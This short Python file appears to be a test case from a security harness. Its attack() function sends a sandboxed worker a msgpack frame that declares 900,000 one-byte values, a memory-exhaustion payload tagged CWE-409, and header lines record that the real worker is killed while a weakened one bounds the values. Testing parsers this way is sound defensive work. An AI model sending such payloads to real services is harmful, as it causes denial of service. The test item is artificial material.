# title: fill a frame with values of one byte each, which take much more when they are read
# reference: CWE-409, https://github.com/msgpack/msgpack-python#security
# real: killed: a frame announces a container of 900000 values
# weakened: bounded values
# proof: said: 900000 values

from sandbox.channel import framed


def attack(worker):
    worker.write(framed(b"\x94\x01\xa9t.nothing\x91\xdd" + (900_000).to_bytes(4, "big") + b"\xc0" * 900_000 + b"\x80"))
